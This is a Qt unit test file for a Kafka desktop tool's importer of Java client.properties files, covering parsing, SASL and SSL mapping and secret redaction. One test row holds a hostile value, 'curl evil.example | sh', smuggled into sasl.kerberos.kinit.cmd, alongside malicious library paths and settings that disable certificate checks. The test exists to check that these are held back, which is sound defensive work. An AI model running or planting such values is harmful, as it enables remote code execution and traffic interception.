#include "profiles/clientpropertiesimport.h"
#include "profiles/javaproperties.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace kafdesk;

namespace {

ClientPropertiesImport import(const char *text)
{
    return ClientPropertiesImport::fromText(QString::fromUtf8(text), QStringLiteral("test"));
}

// Everything an import tells people, in one text.
QString allText(const ClientPropertiesImport &i)
{
    QString out = i.reportText();
    for (const MappedProperty &m : i.mapped())
        out += m.description;
    for (const UnmappedProperty &u : i.unmapped())
        out += u.reason;
    for (const DangerousProperty &d : i.needsConfirmation())
        out += d.value + d.reason;
    return out + i.notes().join(QLatin1Char('\n')) + i.profile().redactedDescription();
}

} // namespace

class TestClientPropertiesImport : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void parsesJavaPropertiesSyntax()
    {
        const QList<JavaProperty> p = parseJavaProperties(QStringLiteral("# comment \\\n"
                                                                         "  ! another comment\r\n"
                                                                         "a=1\n"
                                                                         "b : 2\n"
                                                                         "c 3\n"
                                                                         "  d=  spaced value\n"
                                                                         "e\\=f=g\\u0041\\t!\n"
                                                                         "long = one, \\\n"
                                                                         "       two, \\\r\n"
                                                                         "       three\n"
                                                                         "\n"
                                                                         "empty=\n"
                                                                         "last=end\\"));
        QCOMPARE(p.size(), 8);
        const QStringList keys{QStringLiteral("a"),     QStringLiteral("b"),   QStringLiteral("c"),
                               QStringLiteral("d"),     QStringLiteral("e=f"), QStringLiteral("long"),
                               QStringLiteral("empty"), QStringLiteral("last")};
        const QStringList values{QStringLiteral("1"),
                                 QStringLiteral("2"),
                                 QStringLiteral("3"),
                                 QStringLiteral("spaced value"),
                                 QStringLiteral("gA\t!"),
                                 QStringLiteral("one, two, three"),
                                 QString(),
                                 QStringLiteral("end")};
        for (qsizetype i = 0; i < p.size(); ++i) {
            QCOMPARE(p[i].key, keys[i]);
            QCOMPARE(p[i].value, values[i]);
        }
        QCOMPARE(p[0].line, 3);
        QCOMPARE(p[5].line, 8);
    }

    void parsesJaas()
    {
        const auto m = parseJaasConfig(
            QStringLiteral("org.apache.kafka.common.security.scram.ScramLoginModule required username=\"al ice\" "
                           "password=\"p\\\"a\\\\ss;word\" tokenauth=true;"));
        QVERIFY(m.ok());
        QCOMPARE(m->loginModule, QStringLiteral("org.apache.kafka.common.security.scram.ScramLoginModule"));
        QCOMPARE(m->controlFlag, QStringLiteral("required"));
        QCOMPARE(m->options.value(QStringLiteral("username")), QStringLiteral("al ice"));
        QCOMPARE(m->options.value(QStringLiteral("password")), QStringLiteral("p\"a\\ss;word"));
        QCOMPARE(m->options.value(QStringLiteral("tokenauth")), QStringLiteral("true"));
        QVERIFY(!parseJaasConfig(QStringLiteral("Module username=\"x\";")).ok());
        const auto stray = parseJaasConfig(QStringLiteral("M required hunter2;"));
        QVERIFY(!stray.ok());
        QVERIFY(!stray.error().message.contains(QStringLiteral("hunter2")));
        const auto unclosed = parseJaasConfig(QStringLiteral("M required password=\"hunter2;"));
        QVERIFY(!unclosed.ok());
        QVERIFY(!unclosed.error().message.contains(QStringLiteral("hunter2")));
    }

    void importsPlain()
    {
        const auto i = import("bootstrap.servers=pkc-1.eu-west-1.aws.confluent.cloud:9092, pkc-2.example:9092\n"
                              "security.protocol=SASL_SSL\n"
                              "sasl.mechanism=PLAIN\n"
                              "sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required "
                              "username='APIKEY' password='s3cr3t-PLAIN';\n"
                              "session.timeout.ms=45000\n"
                              "acks=all\n");
        const ConnectionProfile &p = i.profile();
        QCOMPARE(p.name, QStringLiteral("test"));
        QCOMPARE(p.bootstrapServers, QStringLiteral("pkc-1.eu-west-1.aws.confluent.cloud:9092,pkc-2.example:9092"));
        QCOMPARE(p.securityProtocol, SecurityProtocol::SaslSsl);
        QCOMPARE(p.saslMechanism, SaslMechanism::Plain);
        QCOMPARE(p.userName, QStringLiteral("APIKEY"));
        QCOMPARE(p.password, QStringLiteral("s3cr3t-PLAIN"));
        QCOMPARE(p.extraProperties.value(QStringLiteral("session.timeout.ms")), QStringLiteral("45000"));
        QCOMPARE(p.extraProperties.value(QStringLiteral("acks")), QStringLiteral("all"));
        QVERIFY(i.unmapped().isEmpty());
        QVERIFY(i.needsConfirmation().isEmpty());
        QVERIFY2(p.validate().ok(), qPrintable(p.validate().ok() ? QString() : p.validate().error().message));
        QCOMPARE(p.librdkafkaConfig().value(QStringLiteral("sasl.mechanisms")), QStringLiteral("PLAIN"));
    }

    void importsScram_data()
    {
        QTest::addColumn<QString>("mechanism");
        QTest::addColumn<SaslMechanism>("expected");
        QTest::newRow("SCRAM-SHA-256") << QStringLiteral("SCRAM-SHA-256") << SaslMechanism::ScramSha256;
        QTest::newRow("SCRAM-SHA-512") << QStringLiteral("SCRAM-SHA-512") << SaslMechanism::ScramSha512;
    }

    void importsScram()
    {
        QFETCH(QString, mechanism);
        QFETCH(SaslMechanism, expected);
        const auto i = ClientPropertiesImport::fromText(
            // The file escapes for .properties, then for JAAS: the password is pa"ss\word.
            QStringLiteral("bootstrap.servers=b1:9092\nsecurity.protocol=SASL_PLAINTEXT\nsasl.mechanism=%1\n"
                           "sasl.jaas.config=org.apache.kafka.common.security.scram.ScramLoginModule required "
                           "username=\"alice\" password=\"pa\\\\\\\"ss\\\\\\\\word\";\n")
                .arg(mechanism));
        QCOMPARE(i.profile().name, QStringLiteral("Imported"));
        QCOMPARE(i.profile().saslMechanism, expected);
        QCOMPARE(i.profile().securityProtocol, SecurityProtocol::SaslPlaintext);
        QCOMPARE(i.profile().userName, QStringLiteral("alice"));
        QCOMPARE(i.profile().password, QStringLiteral("pa\"ss\\word"));
        QVERIFY(i.unmapped().isEmpty());
        QVERIFY(!allText(i).contains(QStringLiteral("pa\"ss")));
    }

    void infersPlainFromTheLoginModule()
    {
        const auto i = import("security.protocol=SASL_SSL\nbootstrap.servers=b:1\nsasl.jaas.config=org.apache.kafka."
                              "common.security.plain.PlainLoginModule required username=u password=p;\n");
        QCOMPARE(i.profile().saslMechanism, SaslMechanism::Plain);
        QVERIFY(i.notes().join(QLatin1Char(' ')).contains(QStringLiteral("GSSAPI")));
    }

    void importsSslWithPem()
    {
        const auto i = import("security.protocol=SSL\nbootstrap.servers=b1:9093\n"
                              "ssl.truststore.type=PEM\nssl.truststore.location=/etc/kafka/ca.pem\n"
                              "ssl.keystore.type=PEM\nssl.keystore.location=/etc/kafka/client.pem\n"
                              "ssl.key.password=key-s3cret\nssl.endpoint.identification.algorithm=https\n");
        const ConnectionProfile &p = i.profile();
        QCOMPARE(p.securityProtocol, SecurityProtocol::Ssl);
        QCOMPARE(p.caFile, QStringLiteral("/etc/kafka/ca.pem"));
        QCOMPARE(p.clientCertFile, QStringLiteral("/etc/kafka/client.pem"));
        QCOMPARE(p.clientKeyFile, QStringLiteral("/etc/kafka/client.pem"));
        QCOMPARE(p.keyPassword, QStringLiteral("key-s3cret"));
        QCOMPARE(p.extraProperties.value(QStringLiteral("ssl.endpoint.identification.algorithm")),
                 QStringLiteral("https"));
        QVERIFY(i.unmapped().isEmpty());
        QVERIFY(i.needsConfirmation().isEmpty());
        QVERIFY(!allText(i).contains(QStringLiteral("key-s3cret")));
        const auto config = p.librdkafkaConfig();
        QCOMPARE(config.value(QStringLiteral("ssl.ca.location")), QStringLiteral("/etc/kafka/ca.pem"));
        QCOMPARE(config.value(QStringLiteral("ssl.key.password")), QStringLiteral("key-s3cret"));
    }

    void importsPkcs12Keystore()
    {
        const auto i = import("security.protocol=SSL\nbootstrap.servers=b1:9093\nssl.truststore.location=/k/ca.crt\n"
                              "ssl.keystore.type=PKCS12\nssl.keystore.location=/k/client.p12\n"
                              "ssl.keystore.password=store-s3cret\nssl.key.password=store-s3cret\n");
        QCOMPARE(i.profile().caFile, QStringLiteral("/k/ca.crt"));
        QCOMPARE(i.profile().pkcs12File, QStringLiteral("/k/client.p12"));
        QCOMPARE(i.profile().pkcs12Password, QStringLiteral("store-s3cret"));
        QVERIFY(i.unmapped().isEmpty());
        QVERIFY(!allText(i).contains(QStringLiteral("store-s3cret")));
    }

    void reportsJksTruststoreWithCommands()
    {
        const auto i = import("security.protocol=SSL\nbootstrap.servers=b1:9093\n"
                              "ssl.truststore.location=/etc/kafka/truststore.jks\n"
                              "ssl.truststore.password=trust-s3cret\n"
                              "ssl.keystore.location=/etc/my keys/client.keystore.jks\n"
                              "ssl.keystore.password=store-s3cret\nssl.key.password=key-s3cret\n");
        QVERIFY(i.profile().caFile.isEmpty());
        QVERIFY(i.profile().pkcs12File.isEmpty());
        QVERIFY(i.profile().pkcs12Password.isEmpty());
        const QString keytool = QStringLiteral("keytool -importkeystore -srckeystore /etc/kafka/truststore.jks "
                                               "-srcstoretype JKS -destkeystore /etc/kafka/truststore.p12 "
                                               "-deststoretype PKCS12");
        const QString openssl = QStringLiteral("openssl pkcs12 -in /etc/kafka/truststore.p12 -nokeys -out "
                                               "/etc/kafka/truststore-ca.pem");
        const QString keystore =
            QStringLiteral("keytool -importkeystore -srckeystore '/etc/my keys/client.keystore.jks' "
                           "-srcstoretype JKS -destkeystore '/etc/my keys/client.keystore.p12' "
                           "-deststoretype PKCS12");
        QCOMPARE(i.conversionCommands(), (QStringList{keytool, openssl, keystore}));
        const QString trustReason = i.unmappedReason(QStringLiteral("ssl.truststore.location"));
        QVERIFY2(trustReason.contains(QStringLiteral("librdkafka cannot read a JKS truststore")),
                 qPrintable(trustReason));
        QVERIFY(trustReason.contains(keytool));
        QVERIFY(trustReason.contains(openssl));
        QVERIFY(i.unmappedReason(QStringLiteral("ssl.keystore.location")).contains(keystore));
        for (const char *key : {"ssl.truststore.password", "ssl.keystore.password", "ssl.key.password"})
            QVERIFY2(i.isUnmapped(QLatin1String(key)), key);
        const QString report = i.reportText();
        QVERIFY(report.contains(keytool));
        QVERIFY(report.contains(openssl));
        for (const char *secret : {"trust-s3cret", "store-s3cret", "key-s3cret"})
            QVERIFY2(!allText(i).contains(QLatin1String(secret)), secret);
    }

    void reportsPkcs12Truststore()
    {
        const auto i = import("ssl.truststore.type=PKCS12\nssl.truststore.location=/k/trust.p12\n");
        QCOMPARE(i.conversionCommands(),
                 QStringList{QStringLiteral("openssl pkcs12 -in /k/trust.p12 -nokeys -out /k/trust-ca.pem")});
        QVERIFY(
            i.unmappedReason(QStringLiteral("ssl.truststore.location")).contains(QStringLiteral("PKCS12 truststore")));
        QVERIFY(i.isUnmapped(QStringLiteral("ssl.truststore.type")));
    }

    void namesUnmappedKeys_data()
    {
        QTest::addColumn<QString>("line");
        QTest::addColumn<QString>("key");
        QTest::addColumn<QString>("reason");
        QTest::newRow("deserializer")
            << QStringLiteral("key.deserializer=org.apache.kafka.common.serialization.StringDeserializer")
            << QStringLiteral("key.deserializer") << QStringLiteral("Java serializers");
        QTest::newRow("java only") << QStringLiteral("ssl.enabled.protocols=TLSv1.3")
                                   << QStringLiteral("ssl.enabled.protocols")
                                   << QStringLiteral("librdkafka has no property of this name");
        QTest::newRow("callback class") << QStringLiteral("sasl.login.callback.handler.class=com.example.Handler")
                                        << QStringLiteral("sasl.login.callback.handler.class")
                                        << QStringLiteral("Java code");
        QTest::newRow("java class value")
            << QStringLiteral("partition.assignment.strategy=org.apache.kafka.clients.consumer.RangeAssignor")
            << QStringLiteral("partition.assignment.strategy") << QStringLiteral("Java code");
        QTest::newRow("cipher suites") << QStringLiteral("ssl.cipher.suites=TLS_AES_128_GCM_SHA256")
                                       << QStringLiteral("ssl.cipher.suites") << QStringLiteral("OpenSSL");
        QTest::newRow("bad protocol") << QStringLiteral("security.protocol=TLS") << QStringLiteral("security.protocol")
                                      << QStringLiteral("is not one of PLAINTEXT");
        QTest::newRow("kerberos") << QStringLiteral("sasl.mechanism=GSSAPI") << QStringLiteral("sasl.mechanism")
                                  << QStringLiteral("not \"GSSAPI\"");
        QTest::newRow("other login module")
            << QStringLiteral("sasl.jaas.config=com.sun.security.auth.module.Krb5LoginModule required useKeyTab=true;")
            << QStringLiteral("sasl.jaas.config") << QStringLiteral("Krb5LoginModule is not supported");
        QTest::newRow("bad librdkafka value")
            << QStringLiteral("enable.idempotence=perhaps") << QStringLiteral("enable.idempotence")
            << QStringLiteral("librdkafka refuses its value");
        QTest::newRow("empty value") << QStringLiteral("client.id=") << QStringLiteral("client.id")
                                     << QStringLiteral("no value");
    }

    void namesUnmappedKeys()
    {
        QFETCH(QString, line);
        QFETCH(QString, key);
        QFETCH(QString, reason);
        const auto i =
            ClientPropertiesImport::fromText(QStringLiteral("bootstrap.servers=b:1\n") + line + QLatin1Char('\n'));
        QCOMPARE(i.unmapped().size(), 1);
        QCOMPARE(i.unmapped().first().key, key);
        QVERIFY2(i.unmapped().first().reason.contains(reason), qPrintable(i.unmapped().first().reason));
        QVERIFY(!i.profile().extraProperties.contains(key));
        QVERIFY(i.reportText().contains(QStringLiteral("Not imported:\n  ") + key + QLatin1Char(':')));
    }

    void dangerousNeedsConfirmation_data()
    {
        QTest::addColumn<QString>("key");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("librdkafkaValue");
        QTest::addColumn<QString>("why");
        const auto row = [](const char *key, const char *value, const char *librdkafka, const char *why) {
            QTest::newRow(QByteArray(QByteArray(key) + '=' + value).constData())
                << QString::fromUtf8(key) << QString::fromUtf8(value) << QString::fromUtf8(librdkafka)
                << QString::fromUtf8(why);
        };
        row("sasl.kerberos.kinit.cmd", "kinit -k -t /tmp/keytab; curl evil.example | sh",
            "kinit -k -t /tmp/keytab; curl evil.example | sh", "shell command");
        row("plugin.library.paths", "/tmp/evil.so", "/tmp/evil.so", "loads shared libraries");
        row("ssl.engine.location", "/tmp/engine.so", "/tmp/engine.so", "OpenSSL engine");
        row("ssl.providers", "legacy", "legacy", "OpenSSL providers");
        row("sasl.oauthbearer.token.endpoint.url", "https://evil.example/token", "https://evil.example/token", "URL");
        row("enable.ssl.certificate.verification", "false", "false", "turns off the check of the broker's certificate");
        row("ssl.endpoint.identification.algorithm", "", "none",
            "turns off the check that the broker's certificate names");
        row("ssl.endpoint.identification.algorithm", "none", "none",
            "turns off the check that the broker's certificate names");
    }

    void dangerousNeedsConfirmation()
    {
        QFETCH(QString, key);
        QFETCH(QString, value);
        QFETCH(QString, librdkafkaValue);
        QFETCH(QString, why);
        auto i = ClientPropertiesImport::fromText(
            QStringLiteral("bootstrap.servers=b:1\nacks=all\n%1=%2\n").arg(key, value));
        QCOMPARE(i.needsConfirmation().size(), 1);
        const DangerousProperty d = i.needsConfirmation().first();
        QCOMPARE(d.key, key);
        QCOMPARE(d.value, value);
        QVERIFY2(d.reason.contains(why), qPrintable(d.reason));
        QVERIFY(i.needsConfirmation(key));
        QVERIFY(!i.profile().extraProperties.contains(key));
        QVERIFY(!i.profile().librdkafkaConfig().contains(key));
        QVERIFY(!i.isUnmapped(key));
        QVERIFY(i.reportText().contains(QStringLiteral("Left out until you confirm them (dangerous):\n  ") + key));

        // Naming anything else takes nothing.
        const Status wrong = i.acceptDangerous({key, QStringLiteral("acks")});
        QVERIFY(!wrong.ok());
        QCOMPARE(wrong.error().message, QStringLiteral("acks is not waiting for confirmation."));
        QVERIFY(!i.profile().extraProperties.contains(key));
        QVERIFY(i.needsConfirmation(key));

        QVERIFY(i.profile().dangerousSettings().isEmpty());
        QVERIFY(i.acceptDangerous({key}).ok());
        QCOMPARE(i.profile().dangerousSettings().size(), 1);
        QVERIFY(i.profile().dangerousSettings().first().startsWith(key + QStringLiteral(": ")));
        QCOMPARE(i.profile().extraProperties.value(key, QStringLiteral("<absent>")), librdkafkaValue);
        QCOMPARE(i.profile().librdkafkaConfig().value(key), librdkafkaValue);
        QVERIFY(i.needsConfirmation().isEmpty());
        QVERIFY(!i.needsConfirmation(key));
        QVERIFY(!i.acceptDangerous({key}).ok());
    }

    void safeValuesOfCheckedPropertiesPassThrough()
    {
        const auto i = import("enable.ssl.certificate.verification=true\nsasl.kerberos.service.name=kafka\n");
        QVERIFY(i.needsConfirmation().isEmpty());
        QCOMPARE(i.profile().extraProperties.value(QStringLiteral("enable.ssl.certificate.verification")),
                 QStringLiteral("true"));
        QCOMPARE(i.profile().extraProperties.value(QStringLiteral("sasl.kerberos.service.name")),
                 QStringLiteral("kafka"));
    }

    void dangerousSecretIsHidden()
    {
        auto i = import("sasl.oauthbearer.client.secret=oauth-s3cret\n");
        QCOMPARE(i.needsConfirmation().size(), 1);
        QCOMPARE(i.needsConfirmation().first().value, QStringLiteral("(hidden)"));
        QVERIFY(!allText(i).contains(QStringLiteral("oauth-s3cret")));
        QVERIFY(i.acceptDangerous({QStringLiteral("sasl.oauthbearer.client.secret")}).ok());
        QCOMPARE(i.profile().secrets().value(QStringLiteral("extra/sasl.oauthbearer.client.secret")),
                 QStringLiteral("oauth-s3cret"));
        QVERIFY(!allText(i).contains(QStringLiteral("oauth-s3cret")));
    }

    void followsContinuationLines()
    {
        const auto i = import("# exported by ops\n"
                              "bootstrap.servers = b1:9092,\\\n"
                              "                    b2:9092\n"
                              "security.protocol: SASL_SSL\n"
                              "sasl.mechanism SCRAM-SHA-512\n"
                              "sasl.jaas.config=org.apache.kafka.common.security.scram.ScramLoginModule required \\\r\n"
                              "    username=\"bob\" \\\n"
                              "    password=\"multi-line-s3cret\";\n"
                              "! done\n");
        QCOMPARE(i.profile().bootstrapServers, QStringLiteral("b1:9092,b2:9092"));
        QCOMPARE(i.profile().securityProtocol, SecurityProtocol::SaslSsl);
        QCOMPARE(i.profile().saslMechanism, SaslMechanism::ScramSha512);
        QCOMPARE(i.profile().userName, QStringLiteral("bob"));
        QCOMPARE(i.profile().password, QStringLiteral("multi-line-s3cret"));
        QVERIFY(i.unmapped().isEmpty());
    }

    void secretsNeverInTheReport()
    {
        const auto i =
            import("bootstrap.servers=b:1\nsecurity.protocol=SASL_SSL\nsasl.mechanism=PLAIN\n"
                   "sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required "
                   "username=u password=\"jaas-s3cret\" extra=\"opt\";\n"
                   "sasl.password=plain-s3cret\n"
                   "ssl.keystore.location=/k.p12\nssl.keystore.type=PKCS12\nssl.keystore.password=ks-s3cret\n"
                   "ssl.key.password=other-s3cret\nssl.truststore.password=ts-s3cret\n"
                   "sasl.jaas.config=broken password=\"dup-s3cret\n"
                   "ssl.keystore.key=-----BEGIN PRIVATE KEY----- pem-s3cret\n");
        const QString text = allText(i);
        for (const char *secret :
             {"jaas-s3cret", "plain-s3cret", "ks-s3cret", "other-s3cret", "ts-s3cret", "dup-s3cret", "pem-s3cret"})
            QVERIFY2(!text.contains(QLatin1String(secret)), secret);
        QVERIFY(i.reportText().contains(QStringLiteral("sasl.jaas.config is set 2 times (lines 4, 11)")));
        QCOMPARE(i.profile().pkcs12Password, QStringLiteral("ks-s3cret"));
        QCOMPARE(i.profile().password, QStringLiteral("plain-s3cret"));
    }

    void importsFromFile()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        QFile f(dir.filePath(QStringLiteral("client.properties")));
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("bootstrap.servers=b1:9092\nsasl.username=J\xfcrgen\n"); // ISO 8859-1, as Java writes it
        f.close();
        const auto i = ClientPropertiesImport::fromFile(f.fileName());
        QVERIFY(i.ok());
        QCOMPARE(i->profile().name, QStringLiteral("client"));
        QCOMPARE(i->profile().userName, QStringLiteral("J\u00fcrgen"));
        QVERIFY(i->reportText().startsWith(QStringLiteral("Imported client.properties into the profile \"client\".")));
        QVERIFY(!ClientPropertiesImport::fromFile(dir.filePath(QStringLiteral("missing"))).ok());
    }
};

QTEST_GUILESS_MAIN(TestClientPropertiesImport)
#include "tst_clientpropertiesimport.moc"
